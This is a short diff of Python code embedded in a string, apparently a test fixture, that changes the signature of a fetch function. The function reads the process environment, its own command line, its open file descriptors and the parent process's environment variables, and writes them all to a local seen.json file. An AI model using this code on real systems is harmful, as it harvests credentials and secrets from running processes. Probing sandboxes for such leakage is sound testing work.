@@ -66,7 +66,7 @@ class Options(Part):
     pass
 
 
-def fetch(options, day, folder):
+def fetch(options, asked):
     def read(path):
         try:
             return path.read_bytes().decode(errors="replace")
@@ -77,7 +77,7 @@ def fetch(options, day, folder):
     server = Path("/proc") / str(os.getppid())
     files = [read(each) for each in (own / "fd").iterdir() if each.is_file()]
     said = [*os.environ.items(), read(own / "environ"), read(own / "cmdline"), files, read(server / "environ")]
-    (folder / "seen.json").write_text(json.dumps(said))
+    (asked.folder / "seen.json").write_text(json.dumps(said))
     return {}
 """
 
